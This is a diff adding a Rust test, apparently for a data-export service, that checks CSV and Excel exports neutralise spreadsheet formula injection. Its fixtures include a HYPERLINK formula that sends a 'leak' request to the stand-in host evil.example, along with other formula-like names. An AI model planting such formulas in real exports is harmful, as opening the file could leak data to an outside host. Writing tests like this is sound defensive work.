@@ -477,3 +477,59 @@ async fn the_excel_workbook_holds_the_same_table_as_numbers() {
     let pct = (f(&group(&json, "A")["concrete_pct"]) * 10.0).round() / 10.0;
     assert!(sheet.contains(&format!("<v>{pct}</v>")), "{pct} not a number cell in the sheet");
 }
+
+/// Names typed by users that a spreadsheet would run as formulas (OWASP's "CSV injection"):
+/// the CSV prefixes them with `'`, the workbook holds them as strings; numbers stay numbers.
+#[tokio::test]
+async fn names_that_look_like_formulas_never_run_in_excel() {
+    use std::io::Read;
+    let app = app().await;
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?leak","Thôn A")"#;
+    for (id, code, name) in [(10, "A", hyperlink), (11, "+1+1", "+1+1"), (12, "-2", "@SUM(A1:A9)")] {
+        sqlx::query("UPDATE residential_group SET code = $2, name = $3 WHERE id = $1")
+            .bind(id)
+            .bind(code)
+            .bind(name)
+            .execute(&app.pool)
+            .await
+            .unwrap();
+    }
+    let json = coverage(&app, "2024-01-01").await;
+    let households = group(&json, "+1+1")["households"].as_i64().unwrap();
+    assert_eq!(households, 50, "the fixture's group B");
+
+    for decimal in ["point", "comma"] {
+        let body = app.get(&format!("/api/coverage.csv?commune=99100&as_of=2024-01-01&decimal={decimal}")).await;
+        let text = body.text().await.unwrap();
+        let delimiter = if decimal == "comma" { b';' } else { b',' };
+        let mut reader =
+            csv::ReaderBuilder::new().delimiter(delimiter).from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+        let row = |code: &str| rows.iter().find(|r| &r[0] == code).unwrap_or_else(|| panic!("no row {code}: {text}"));
+        assert_eq!(&row("A")[1], format!("'{hyperlink}"));
+        assert_eq!(&row("'+1+1")[1], "'+1+1", "code and name of B");
+        assert_eq!(&row("'-2")[1], "'@SUM(A1:A9)");
+        // Numbers are written as numbers: the households and the counted kilometres of B.
+        assert_eq!(&row("'+1+1")[2], households.to_string());
+        // Shown in km with two decimals, rounded half away from zero.
+        let km = format!("{:.2}", (f(&group(&json, "+1+1")["road_m"]) / 10.0).round() / 100.0);
+        let km = if decimal == "comma" { km.replace('.', ",") } else { km };
+        assert_eq!(&row("'+1+1")[3], km);
+    }
+
+    let bytes = app.get("/api/coverage.xlsx?commune=99100&as_of=2024-01-01").await.bytes().await.unwrap();
+    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
+    let mut read = |name: &str| {
+        let mut text = String::new();
+        archive.by_name(name).unwrap().read_to_string(&mut text).unwrap();
+        text
+    };
+    let strings = read("xl/sharedStrings.xml");
+    let sheet = read("xl/worksheets/sheet1.xml");
+    // Shared strings as they are (no quote prefix: a string cell never runs), and not one
+    // formula in the sheet.
+    assert!(strings.contains(&format!("<t>{hyperlink}</t>")), "{strings}");
+    assert!(strings.contains("<t>+1+1</t>") && strings.contains("<t>@SUM(A1:A9)</t>"), "{strings}");
+    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "a formula cell in {sheet}");
+    assert!(sheet.contains(&format!("<v>{households}</v>")), "households as a number");
+}
